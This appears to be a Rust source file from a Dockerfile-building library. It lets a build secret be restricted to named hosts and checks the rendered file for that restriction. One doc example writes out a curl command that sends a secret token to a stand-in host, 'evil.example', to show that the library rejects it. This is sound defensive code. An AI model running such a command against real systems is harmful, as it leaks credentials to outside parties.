//! The hosts that a secret may be sent to.

use dockerfile_dsl_analysis::dockerfile::{self, Danger};

use super::{Secret, SecretsById};
use crate::Error;
use crate::danger::Decision;
#[cfg(feature = "serde")]
use crate::kept::keep_list;

const BAD_HOST: &str = "a host is a name such as `example.com`, or `*.example.com` for every host \
                        beneath it, without a scheme, a port or a path";

impl Secret {
    /// Permits only these hosts: a program that sends the secret to another one, or to one that the text does not say, is refused.
    ///
    /// `*.example.com` is every host beneath `example.com`. The rows of a program say where it sends what it is given. The list is
    /// written into the Dockerfile as a comment, so that `dockerfile-dsl check` gives the rendered file the same verdict. In
    /// [`sh!`](crate::sh), a list that is literal and in the same source file is checked at compile time; the check of the whole
    /// file covers the others.
    ///
    /// ```
    /// use dockerfile_dsl::{Dockerfile, Script, Secret, Stage, sh};
    ///
    /// const TOKEN: Secret = Secret::env("TOKEN").only_to(&["api.example.com"]);
    ///
    /// let mut stage = Stage::from_image("debian:12");
    /// stage.run(sh!("curl -fsS -H @{TOKEN} https://api.example.com/tool.tgz -o /srv/tool.tgz"));
    /// assert!(Dockerfile::from_stage(&stage.build()).is_ok());
    ///
    /// let script = "curl -fsS -H @{token} https://evil.example -o /dev/null";
    /// let mut stage = Stage::from_image("debian:12");
    /// stage.run(Script::parse(script, &[("token", &TOKEN)])?);
    /// assert!(Dockerfile::from_stage(&stage.build()).is_err());
    /// # Ok::<(), dockerfile_dsl::Error>(())
    /// ```
    ///
    /// # Panics
    ///
    /// Panics if the list is empty, or a word is not the name of a host: a compile error in a `const`.
    #[must_use]
    pub const fn only_to(mut self, hosts: &'static [&'static str]) -> Self {
        assert!(!hosts.is_empty(), "name at least one host");
        let mut i = 0;
        while i < hosts.len() {
            assert!(is_host(hosts[i]), "{}", BAD_HOST);
            i += 1;
        }
        self.hosts = Some(hosts);
        self
    }

    /// Returns the hosts that it may be sent to; `None` is any.
    #[must_use]
    pub const fn hosts(&self) -> Option<&'static [&'static str]> {
        self.hosts
    }

    /// Sets hosts that are known at run time, or none.
    #[cfg(feature = "serde")]
    pub(crate) fn with_hosts(mut self, hosts: &[String]) -> Result<Self, Error> {
        for host in hosts {
            Self::check(is_host(host), host, BAD_HOST)?;
        }
        let hosts: Vec<&str> = hosts.iter().map(String::as_str).collect();
        self.hosts = (!hosts.is_empty()).then(|| keep_list(&hosts));
        Ok(self)
    }
}

/// Returns the decisions of a file about the hosts of its secrets.
pub(crate) fn decisions(secrets: &SecretsById) -> impl Iterator<Item = Decision> {
    secrets.iter().filter_map(|(id, secret)| {
        let hosts = secret.hosts?.iter().map(|host| host.to_ascii_lowercase());
        let danger = Danger::OnlyTo {
            id: id.clone(),
            hosts: hosts.collect(),
        };
        Some(Decision::of_text(danger, "declared with the secret"))
    })
}

/// Refuses a secret with a list of hosts for a text that does not have the list: its check would not know of it.
pub(crate) fn check_text(text: &str, secrets: &SecretsById) -> Result<(), Error> {
    let wanted: Vec<Decision> = decisions(secrets).collect();
    if wanted.is_empty() {
        return Ok(());
    }
    let file = dockerfile::read(text).ok();
    let notes = file.iter().flat_map(|file| &file.only_to);
    let notes: Vec<&Danger> = notes.map(|note| &note.kind).collect();
    let missing = wanted.iter().find(|one| !notes.contains(&&one.danger));
    match missing {
        None => Ok(()),
        Some(one) => Err(Error::new(format!(
            "the file does not say to which hosts a secret may be sent; write this line above its \
             first FROM: {}",
            one.comment().unwrap_or_default()
        ))),
    }
}

/// Whether a word is the name of a host, or `*.` and such a name.
const fn is_host(word: &str) -> bool {
    let bytes = word.as_bytes();
    let mut i = if bytes.len() > 2 && bytes[0] == b'*' && bytes[1] == b'.' {
        2
    } else {
        0
    };
    let mut label = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'.' if label == 0 => return false,
            b'.' => label = 0,
            byte if byte.is_ascii_alphanumeric() || byte == b'-' => label += 1,
            _ => return false,
        }
        i += 1;
    }
    label > 0
}

#[cfg(test)]
mod tests {
    use super::is_host;

    #[test]
    fn names_of_hosts() {
        for host in [
            "a",
            "localhost",
            "github.com",
            "*.example.com",
            "10.0.0.1",
            "x-y.z",
        ] {
            assert!(is_host(host), "{host}");
        }
        for word in [
            "",
            ".",
            "a..b",
            "*.",
            "*",
            "a.",
            "https://a.b",
            "a:1",
            "a/b",
            "a b",
            "*a.b",
            "ü.de",
        ] {
            assert!(!is_host(word), "{word}");
        }
    }
}
